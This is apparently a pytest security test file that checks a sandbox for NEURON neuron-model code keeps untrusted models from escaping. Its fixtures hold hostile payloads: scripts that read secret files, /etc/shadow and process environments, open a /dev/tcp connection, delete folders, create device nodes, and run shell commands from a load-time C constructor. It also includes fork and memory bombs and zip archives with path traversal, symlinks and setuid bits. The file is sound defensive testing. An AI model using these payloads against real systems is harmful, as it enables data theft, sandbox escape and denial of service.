"""Models that attack when they are loaded: nothing leaves, the parent lives, and it is told."""

from __future__ import annotations

import os
import re
import socket
import stat
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path

import pytest
from written_runs import Ran, Runner, runs_code

from bnnkg.errors import SourceError
from bnnkg.ingest.neuron.execution import Execution, execute_source
from bnnkg.ingest.neuron.hints import configurations
from bnnkg.ingest.neuron.unpacking import unpack
from bnnkg.ingest.sources import ZipTree
from bnnkg.sandbox import Limits

SECRET = "hidden treasure"
CELL = "create soma\nsoma { L = 10  diam = 10  insert hh }\n"
SMALL = Limits(cpu_s=8, wall_s=30, memory_bytes=2**29, n_processes=24, disk_bytes=2**26,
               file_bytes=2**24)  # fmt: skip


@dataclass(frozen=True)
class Outside:
    """What an attack must not reach.

    Attributes:
        folder: A folder that anybody may write in.
        port: Port of a listener.
    """

    folder: Path
    port: int
    listener: socket.socket

    def is_untouched(self) -> bool:
        """Whether nothing was written and nobody called."""
        try:
            self.listener.accept()
        except BlockingIOError:
            return [path.name for path in self.folder.iterdir()] == ["secret"]
        return False


@pytest.fixture
def outside(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Outside]:
    folder = tmp_path / "outside"
    folder.mkdir()
    folder.chmod(0o777)
    (folder / "secret").write_text(SECRET)
    monkeypatch.setenv("BNNKG_TEST_SECRET", SECRET)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        yield Outside(folder, listener.getsockname()[1], listener)


def _all_text(ran: Ran) -> str:
    """Everything that comes of a run: what is told of it, and what it captured."""
    text = repr(ran.execution)
    for folder in ran.execution.captures:
        text += "".join(path.read_bytes().decode("latin-1") for path in folder.iterdir())
    return text


HOC = """
load_file("nrngui.hoc")
strdef text
objref f
system("echo x > {outside}/by_system")
system("cat {outside}/secret", text)
system("env", text)
f = new File()
f.wopen("{outside}/by_file")
f.ropen("{outside}/secret")
if (f.isopen()) f.gets(text)
nrnpython("import os; os.system('echo x > {outside}/by_python')")
nrn_load_dll("{outside}/evil.so")
chdir("{outside}")
system("exec 3<>/dev/tcp/127.0.0.1/{port} && echo x >&3")
create soma
soma insert hh
{{ sprint(text, "%s", text)  print text }}
"""
PYTHON = """
import glob, os, shutil, socket, subprocess
from neuron import h
soma = h.Section(name="soma")
soma.insert("hh")
took = [os.environ.get("BNNKG_TEST_SECRET", "")]
def attempt(act):
    try:
        took.append(str(act()))
    except Exception as error:
        took.append(type(error).__name__)
out = {outside!r}
attempt(lambda: os.system("echo x > " + out + "/x"))
attempt(lambda: open(out + "/y", "w"))
attempt(lambda: open(out + "/secret").read())
attempt(lambda: subprocess.run(["cat", out + "/secret"], capture_output=True).stdout)
attempt(lambda: os.listdir(os.path.expanduser("~root")))
attempt(lambda: [open(p).read() for p in glob.glob("/proc/*/environ")])
attempt(lambda: socket.create_connection(("127.0.0.1", {port}), 2))
attempt(lambda: shutil.rmtree(out))
attempt(lambda: os.kill(-1, 0))
attempt(lambda: os.mknod("disk", 0o60666, os.makedev(8, 0)))
attempt(lambda: os.mknod("memory", 0o20666, os.makedev(1, 1)))
attempt(lambda: os.symlink(out, "way_out"))
attempt(lambda: open("way_out/z", "w"))
attempt(lambda: open("/etc/shadow").read())
h.Section(name="told_" + "".join(c if c.isalnum() else "_" for c in "|".join(took)))
raise RuntimeError("|".join(took))
"""


@runs_code
@pytest.mark.parametrize(("name", "text"), [("mosinit.hoc", HOC), ("main.py", PYTHON)])
def test_nothing_leaves_and_nothing_comes_in(
    run_model: Runner, outside: Outside, name: str, text: str
) -> None:
    text = text.format(outside=str(outside.folder), port=outside.port)
    ran = run_model({name: text}, limits=SMALL)
    assert outside.is_untouched()
    assert SECRET not in _all_text(ran)
    assert SECRET.replace(" ", "_") not in _all_text(ran)
    assert ran.counts["sections"] >= 1  # the attacks changed nothing of what it builds
    if name == "main.py":
        [attempt] = ran.execution.attempts
        assert "FileNotFoundError" in attempt.reason  # and what it met is told


FLOODS = {
    "memory": ("hold = []\nwhile True: hold.append(bytearray(2**24))", "bytes of memory"),
    # At the limit, Python may fail to tell of it as well.
    "processes": (
        "while True: os.fork()", "processes and threads|temporarily unavailable|without a word"),
    "one file": ("f = open('f', 'wb')\nwhile True: f.write(bytes(2**20))", "bytes|too large"),
    "many files": (
        "for n in range(10**9):\n  open(str(n), 'wb').write(bytes(2**20))", "folder holds more"),
    "deaf to signals": (
        "import signal\nfor n in (signal.SIGALRM, signal.SIGPROF, signal.SIGINT, signal.SIGTERM):"
        "\n  signal.signal(n, signal.SIG_IGN)\nwhile True: pass", "of CPU time|ran for more"),
}  # fmt: skip


@runs_code
@pytest.mark.parametrize("name", FLOODS)
def test_floods_are_stopped_and_named(run_model: Runner, name: str) -> None:
    text, words = FLOODS[name]
    limits = replace(SMALL, cpu_s=3)
    ran = run_model({"main.py": f"import os\nimport neuron\n{text}\n"}, limits=limits)
    assert ran.execution.captures == ()
    [attempt] = ran.execution.attempts
    assert attempt.status == "failed"
    assert re.search(words, attempt.reason)
    assert attempt.cpu_s < 10


EVIL = """
NEURON {{ SUFFIX evil  RANGE g }}
PARAMETER {{ g = 1 }}
VERBATIM
#include <stdlib.h>
__attribute__((constructor)) static void at_load(void) {{
  system("echo x > {outside}/at_load");
  system("cat {outside}/secret > copy");
  system("touch was_here");
}}
ENDVERBATIM
FUNCTION n() {{ n = 1 }}
"""


@runs_code
@pytest.mark.parametrize("needed", [False, True])
def test_a_mod_that_runs_code_at_load(run_model: Runner, outside: Outside, needed: bool) -> None:
    files = {
        "evil.mod": EVIL.format(outside=outside.folder),
        "mosinit.hoc": "create soma\nsoma insert evil\n" + "x = n_evil()\n" * needed,
    }
    ran = run_model(files, limits=SMALL)
    # As a stub no line of it runs; where its functions are needed, it runs in the sandbox.
    assert ran.capture.header.stubs is not needed
    assert outside.is_untouched()
    assert SECRET not in _all_text(ran)


@runs_code
def test_the_compiler_reads_no_files_of_others(run_model: Runner, outside: Outside) -> None:
    mod = EVIL.format(outside=outside.folder).replace(
        "#include <stdlib.h>", f'#include "{outside.folder}/secret"\n#include <stdlib.h>'
    )
    ran = run_model({"evil.mod": mod, "mosinit.hoc": "create soma\nsoma insert evil\nx=n_evil()\n"})
    assert outside.is_untouched()
    assert SECRET not in _all_text(ran)
    assert "No such file" in " ".join(ran.execution.compile_notes)


@runs_code
def test_libraries_that_a_model_brings_are_not_loaded(run_model: Runner) -> None:
    files = {"x86_64/libnrnmech.so": b"\x7fELF", "nrnmech.dll": b"MZ", "init.hoc": CELL}
    ran = run_model(files)
    assert [a.status for a in ran.execution.attempts] == ["loaded"]
    assert sum("compiled code of its author" in n for n in ran.execution.compile_notes) == 2


def _zip(path: Path, *entries: tuple[zipfile.ZipInfo | str, bytes]) -> ZipTree:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, content in entries:
            archive.writestr(info, content)
    return ZipTree(path)


def _special(name: str, mode: int) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = mode << 16
    return info


def test_archives_lead_nowhere(tmp_path: Path) -> None:
    tree = _zip(
        tmp_path / "a.zip",
        ("../up.hoc", b"1"),
        ("/abs.hoc", b"2"),
        ("a/../../up2.hoc", b"3"),
        ("C:\\dos.hoc", b"4"),
        ("..\\up3.hoc", b"5"),
        (_special("link.hoc", stat.S_IFLNK | 0o777), b"/etc/passwd"),
        (_special("disk", stat.S_IFBLK | 0o666), b""),
        (_special("pipe", stat.S_IFIFO | 0o666), b""),
        (_special("suid", stat.S_IFREG | 0o6777), b"x"),
        ("in/side.hoc", b"6"),
    )
    unpack(tree, tmp_path / "out")
    found = sorted(path for path in (tmp_path / "out").rglob("*") if not path.is_dir())
    assert "in/side.hoc" in [path.relative_to(tmp_path / "out").as_posix() for path in found]
    for path in found:
        mode = os.lstat(path).st_mode
        assert stat.S_ISREG(mode), path  # no link and no device
        assert not mode & 0o7111, path
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a.zip", "out"]
    assert len(list(tree.refused())) == 6


def test_a_stream_that_is_broken_costs_its_file_only(tmp_path: Path) -> None:
    _zip(tmp_path / "a.zip", ("a.hoc", CELL.encode() * 500), ("b.hoc", CELL.encode()))
    content = bytearray((tmp_path / "a.zip").read_bytes())
    content[35:39] = b"\xff" * 4  # where the packed bytes of the first begin
    (tmp_path / "a.zip").write_bytes(content)
    tree = ZipTree(tmp_path / "a.zip")
    assert tree.read("b.hoc").decode() == CELL
    with pytest.raises(SourceError, match="cannot be unpacked"):
        tree.read("a.hoc")


def test_bombs_are_not_unpacked(tmp_path: Path) -> None:
    with pytest.raises(SourceError, match="more than a model can hold"):
        _zip(tmp_path / "a.zip", *((f"{n}.hoc", bytes(2**24)) for n in range(5)))
    with pytest.raises(SourceError, match="more than a model can hold"):
        _zip(tmp_path / "b.zip", *((f"{n}", b"") for n in range(20_001)))


@runs_code
def test_a_source_full_of_tricks_is_run_without_them(tmp_path: Path, compiled: Path) -> None:
    tree = _zip(
        tmp_path / "a.zip",
        (_special("cell.hoc", stat.S_IFLNK | 0o777), b"/etc/passwd"),
        ("../mosinit.hoc", b"create outside\n"),
        ("mosinit.hoc", CELL.encode()),
        ("a\nb.hoc", b"create odd\n"),
    )
    execution: Execution = execute_source(
        tree, work=tmp_path / "work", configurations=configurations(tree), cache=compiled
    )
    assert [a.status for a in execution.attempts] == ["loaded"]
    assert any("no file of a model has" in note for note in execution.compile_notes)
